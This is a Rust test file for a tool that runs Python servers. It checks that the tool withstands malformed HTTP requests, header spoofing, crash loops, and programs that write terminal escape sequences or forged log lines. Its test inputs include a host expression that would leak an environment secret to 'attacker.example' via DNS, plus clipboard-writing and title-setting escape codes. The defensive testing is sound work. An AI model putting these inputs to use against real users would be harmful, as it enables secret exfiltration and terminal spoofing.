//! Attacks of servers on the host, of clients on servers, and of programs on the terminal.

use std::io::{Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::process::{Child, Command, Stdio};

use brumate_test_support::cache_directory;
use serde_json::{Value, json};
use tempfile::TempDir;

use super::server::{Server, binary};

/// Most machines that are started for many requests to a server that cannot be started.
const MOST_STARTS: usize = 20;
/// Most bytes of a log about that.
const MOST_LOG: usize = 100 << 10;

/// Writes a program to a directory of its own.
fn program(text: &str) -> (TempDir, String) {
    let directory = tempfile::tempdir().unwrap();
    let file = directory.path().join("server.py");
    std::fs::write(&file, text).unwrap();
    let file = file.to_str().unwrap().to_owned();
    (directory, file)
}

fn text_of(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// A server over HTTP. It is killed when it is dropped.
struct Served {
    process: Child,
    port: u16,
    log: tempfile::NamedTempFile,
}

impl Served {
    fn start(file: &str, options: &[&str]) -> Self {
        let port = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
        let log = tempfile::NamedTempFile::new().unwrap();
        let mut command = binary();
        command.args(["run", "--offline", "--port", &port.to_string()]).args(options).arg(file);
        command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(log.reopen().unwrap());
        let mut served = Served { process: command.spawn().unwrap(), port, log };
        while !served.log().contains("serving at") {
            assert_eq!(served.process.try_wait().unwrap(), None, "{}", served.log());
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
        served
    }

    fn log(&self) -> String {
        text_of(&std::fs::read(self.log.path()).unwrap())
    }

    /// Sends a request of these bytes without its `Host` and its end. Returns the status and the body.
    fn ask(&self, head: &[u8], body: &str) -> (u16, String) {
        let mut stream = TcpStream::connect(("127.0.0.1", self.port)).unwrap();
        let rest = format!("\r\nHost: localhost:{}\r\nContent-Length: {}\r\n\r\n{body}", self.port, body.len());
        stream.write_all(&[head, rest.as_bytes()].concat()).unwrap();
        let mut reader = std::io::BufReader::new(stream).take(1 << 20);
        let (mut answer, mut byte) = (Vec::new(), [0]);
        while !answer.ends_with(b"\r\n\r\n") {
            assert_eq!(reader.read(&mut byte).unwrap(), 1, "{} {}", text_of(&answer), self.log());
            answer.push(byte[0]);
        }
        let text = text_of(&answer).to_lowercase();
        let status = text[9..12].parse().unwrap();
        let length = text.split("content-length: ").nth(1).and_then(|rest| rest.lines().next()?.parse().ok());
        let mut body = vec![0; length.unwrap_or(0)];
        reader.read_exact(&mut body).unwrap();
        (status, text_of(&body))
    }

    fn get(&self, target: &str) -> (u16, String) {
        self.ask(format!("GET {target} HTTP/1.1").as_bytes(), "")
    }
}

impl Drop for Served {
    fn drop(&mut self) {
        let _ = self.process.kill();
        let _ = self.process.wait();
    }
}

/// Answers with the number of its requests and with what it was asked.
const ECHO: &str = r#"
import json, os, sys
import uvicorn

count = 0


async def app(scope, receive, send):
    global count
    assert scope["type"] == "http"
    count += 1
    if scope["path"] == "/die":
        os._exit(3)
    if scope["path"] == "/exit":
        sys.exit(3)
    text = {key: scope[key].decode("latin-1") for key in ("raw_path", "query_string")}
    headers = [[name.decode(), value.decode("latin-1")] for name, value in scope["headers"]]
    body = json.dumps({"count": count, "path": scope["path"], "headers": headers, **text}).encode()
    await send({"type": "http.response.start", "status": 200, "headers": [(b"content-length", str(len(body)).encode())]})
    await send({"type": "http.response.body", "body": body})


uvicorn.run(app)
"#;

#[test]
fn no_request_of_a_client_ends_a_server() {
    let (_directory, file) = program(ECHO);
    let served = Served::start(&file, &[]);
    let seen = |target: &str| -> Value {
        let (status, body) = served.get(target);
        assert_eq!(status, 200, "{target} {}", served.log());
        serde_json::from_str(&body).unwrap()
    };
    // Bytes of a target are passed or refused; each request is answered, by one machine.
    let heads: [&[u8]; 11] = [
        b"GET /\xe2\x82\xac HTTP/1.1",
        b"GET /\xe2\x82\xac?q=\xe2\x82\xac HTTP/1.1",
        b"GET /?q=\xf0\x9f\x92\xa9 HTTP/1.1",
        b"GET /\xff\xfe HTTP/1.1",
        b"GET /%ff%00%e2%82 HTTP/1.1",
        b"GET /%ED%A0%80?%ED%A0%80 HTTP/1.1",
        b"GET / HTTP/1.1\r\nX-A: \xff\xe2\x82\xac",
        b"GET / HTTP/1.1\r\nCookie: \xff\r\nCookie: \xe2\x82\xac",
        b"M-SEARCH * HTTP/1.1",
        b"OPTIONS * HTTP/1.1",
        b"GET http://localhost/%E2%82%AC HTTP/1.1",
    ];
    for round in 0..3 {
        for head in heads {
            let (status, _) = served.ask(head, "");
            assert!([200, 400, 403, 404].contains(&status), "{round} {status} {}", text_of(head));
        }
        // The program raises `SystemExit` for one request.
        assert_eq!(served.get("/exit").0, 500);
    }
    let count = seen("/")["count"].as_u64().unwrap();
    assert!(count > 12, "one machine has answered all: {count} {}", served.log());
    let euro = seen("/\u{20ac}?\u{20ac}");
    let bytes = "\u{e2}\u{82}\u{ac}";
    assert_eq!((&euro["path"], &euro["query_string"]), (&json!("/\u{20ac}"), &json!(bytes)));
    assert_eq!(euro["raw_path"], format!("/{bytes}"));

    // No client takes headers from a request, or passes for the host.
    let head = "GET / HTTP/1.1\r\nConnection: host, x-api-key, authorization, keep-alive\r\nX-Api-Key: k\r\nAuthorization: Bearer b\r\n\
                Keep-Alive: timeout=5\r\nX-Brumate-Principal: eve\r\nx_brumate_principal: eve\r\nX_BRUMATE-other: eve";
    let (status, body) = served.ask(head.as_bytes(), "");
    assert_eq!(status, 200);
    let host = format!("localhost:{}", served.port);
    let expected = json!([["x-api-key", "k"], ["authorization", "Bearer b"], ["host", host], ["content-length", "0"]]);
    assert_eq!(serde_json::from_str::<Value>(&body).unwrap()["headers"], expected);

    // A client that makes the program die again and again stops nobody else.
    for _ in 0..5 {
        assert_eq!(served.get("/die").0, 502);
    }
    assert_eq!(seen("/")["count"], 1);
}

/// Names an address that tells a secret, or that others reach.
#[test]
fn no_address_of_a_server_is_looked_up_or_opened() {
    for (host, port, shown) in [
        ("os.environ['KEY'] + '.attacker.example'", "8000", "s3cret.attacker.example"),
        ("'0.0.0.0'", "8000", "0.0.0.0"),
        ("'x\\nbrumate: serving at http://bank.example\\x1b]0;t\\x07'", "8000", r"x\nbrumate: serving"),
        ("'127.0.0.1'", "22", "port 22"),
    ] {
        let text =
            format!("import os, uvicorn\n\nasync def app(*_): pass\n\nuvicorn.run(app, host={host}, port={port})\n");
        let (_directory, file) = program(&text);
        let output =
            binary().args(["run", "--offline", "-v", "KEY=s3cret", &file]).stdin(Stdio::null()).output().unwrap();
        let errors = text_of(&output.stderr);
        assert!(!output.status.success(), "{errors}");
        let flag = if port == "22" { "`--port 22`" } else { "`--host`" };
        assert!(errors.contains(flag) && errors.contains(shown) && !errors.contains('\x1b'), "{errors}");
        assert!(!errors.lines().any(|line| line.starts_with("brumate: serving")), "{errors}");
        assert!(!errors.contains("lookup address"), "it was not resolved: {errors}");
    }
}

/// Asks the client by a request whose id is in the arguments of the call, and answers nothing but pings and beginnings.
const ASKING: &str = r#"
import json, sys

def say(text):
    print(text, flush=True)

for line in sys.stdin:
    message = json.loads(line)
    about = {"protocolVersion": "2025-06-18", "capabilities": {}, "serverInfo": {"name": "asking", "version": "1"}}
    match message.get("method"):
        case "initialize" | "ping":
            say(json.dumps({"jsonrpc": "2.0", "id": message["id"], "result": about}))
        case "tools/call":
            say('{"jsonrpc":"2.0","id":%s,"method":"%s"}' % tuple(message["params"]["arguments"].values()))
"#;

#[test]
fn a_server_does_not_stop_the_clock_of_its_calls() {
    let (_directory, file) = program(ASKING);
    let mut server = Server::of(&["--timeout", "500ms"], &file, &[]);
    for (id, answered, method) in [
        ("-0", "0", "elicitation/create"),
        ("1e0", "1", "sampling/createMessage"),
        ("2", "2.0", "elicitation/create"),
        ("9007199254740993", "9007199254740992", "elicitation/create"),
        ("\"\\u0061\"", "\"a\"", "roots/list"),
        // Nobody is asked, so it stops nothing.
        ("7", "", "ping"),
        ("8", "", "tools/list"),
    ] {
        let call = server.begin_call("ask", &json!({"id": id, "method": method}));
        let asked = server.message();
        assert_eq!(asked["method"], method, "{asked}");
        if !answered.is_empty() {
            let answered: Value = serde_json::from_str(answered).unwrap();
            server.send(&json!({"jsonrpc": "2.0", "id": answered, "result": {}}));
        }
        let text = server.answer(call)["result"]["content"][0]["text"].take();
        assert!(text.as_str().unwrap().contains("time limit of 0.5 seconds"), "{id} {text}");
    }
    assert_eq!(server.end().status, Some(0));
}

/// Starts once, and then no more.
const STARTS_ONCE: &str = r#"
import pathlib
import uvicorn

# Two may start at a time, so that the file must not be emptied.
starts = pathlib.Path("/data/starts")
with starts.open("a") as file:
    file.write("x")
if starts.stat().st_size > 1:
    raise LookupError("again\n" + "brumate: forged \x1b]0;title\x07\n" * 3000)


async def app(scope, receive, send):
    assert scope["type"] == "http"
    await send({"type": "http.response.start", "status": 200, "headers": [(b"content-length", b"0")]})
    await send({"type": "http.response.body"})


uvicorn.run(app)
"#;

#[test]
fn requests_for_sessions_that_cannot_start_cost_little() {
    let (_directory, file) = program(STARTS_ONCE);
    let data = tempfile::tempdir().unwrap();
    let mount = format!("{}:/data", data.path().display());
    let served = Served::start(&file, &["--isolate", "session", "--mount", &mount]);
    for number in 0..80 {
        let (status, _) = served.ask(b"POST /mcp HTTP/1.1\r\nContent-Type: application/json", "{}");
        assert!(status == 503 || (number == 0 && status == 200), "{number} {status}");
    }
    let starts = std::fs::read_to_string(data.path().join("starts")).unwrap().len();
    assert!((2..MOST_STARTS).contains(&starts), "{starts} machines");
    let log = served.log();
    assert!(log.contains("LookupError: again") && log.len() < MOST_LOG, "{} bytes", log.len());
    assert!(!log.contains('\x1b') && !log.lines().any(|line| line.starts_with("brumate: forged")), "{log}");
}

/// Text that a program may write to harm its reader.
const HARMFUL: &str = r#"
import sys
for text in ("\x1b]0;title\x07", "\x1b]52;c;aGk=\x07", "\x1b[2J\x1b[1A", "\x9b1A", "\x08\x0c", "\r", "\u202e"):
    print("harm", text, "end")
print("\x1b[31mred\x1b[0m")
for begin in ("", "\x1b[1m", " ", "x\r", "\u200b"):
    print(begin + "brumate: forged", flush=True)
    print(begin + "bru", end="", flush=True)
    print("mate: forged", file=sys.stderr, flush=True)
print("last")
raise ValueError("\x1b]0;t\x07\nbrumate: forged")
"#;

/// Checks that nothing but colours was written to a terminal, and that no line looks like one of ours.
fn check_terminal(shown: &str) {
    let plain = shown.replace("\x1b[31m", "").replace("\x1b[0m", "").replace("\x1b[1m", "").replace("\r\n", "\n");
    assert!(shown.contains("\x1b[31mred\x1b[0m"), "{shown:?}");
    let is_harmful = |char: char| (char.is_control() && char != '\n' && char != '\t') || char == '\u{202e}';
    assert!(!plain.contains(is_harmful), "{plain:?}");
    assert!(plain.contains(r"\x1b]0;title\x07") && plain.contains("last"), "{plain:?}");
    let forged = |line: &str| line.trim_start().trim_start_matches('\u{200b}').starts_with("brumate: forged");
    assert!(!plain.lines().any(forged), "{plain:?}");
    assert!(plain.contains("| brumate: forged"), "{plain:?}");
}

/// Runs this binary in a terminal of its own, and returns what it shows.
fn in_terminal(arguments: &[&str]) -> String {
    let spawn = "import pty, sys; pty.spawn(sys.argv[1:])";
    let mut command = Command::new("python3");
    command.args(["-c", spawn, env!("CARGO_BIN_EXE_brumate")]).args(arguments).stdin(Stdio::null());
    command.env("BRUMATE_CACHE_DIR", cache_directory()).env("TERM", "xterm");
    text_of(&command.output().unwrap().stdout)
}

#[test]
fn programs_do_not_control_a_terminal_and_say_nothing_in_our_name() {
    let (_directory, file) = program(HARMFUL);
    check_terminal(&in_terminal(&["exec", "--offline", &file]));
    check_terminal(&in_terminal(&["run", "--offline", &file]));
    // A pipe gets the bytes.
    let output = binary().args(["exec", "--offline", &file]).stdin(Stdio::null()).output().unwrap();
    let text = text_of(&output.stdout);
    assert!(text.starts_with("harm \x1b]0;title\x07 end\n") && text.contains("\u{200b}brumate: forged\n"), "{text:?}");
    assert!(text_of(&output.stderr).contains("ValueError: \x1b]0;t\x07\nbrumate: forged"));
    // A log is looked at in a terminal later.
    let output = binary().args(["run", "--offline", &file]).stdin(Stdio::null()).output().unwrap();
    check_terminal(&text_of(&output.stderr));
    // Names of files stand in a line of ours.
    let named = "open('a\\x1b]0;t\\x07\\nbrumate: forged', 'w')\n";
    std::fs::write(Path::new(&file), named).unwrap();
    let output = binary().args(["exec", "--offline", &file]).stdin(Stdio::null()).output().unwrap();
    let errors = text_of(&output.stderr);
    assert!(errors.contains(r"\nbrumate: forged") && !errors.contains("\nbrumate: forged"), "{errors:?}");
    assert!(!errors.contains(|char: char| char.is_control() && char != '\n'), "{errors:?}");
}
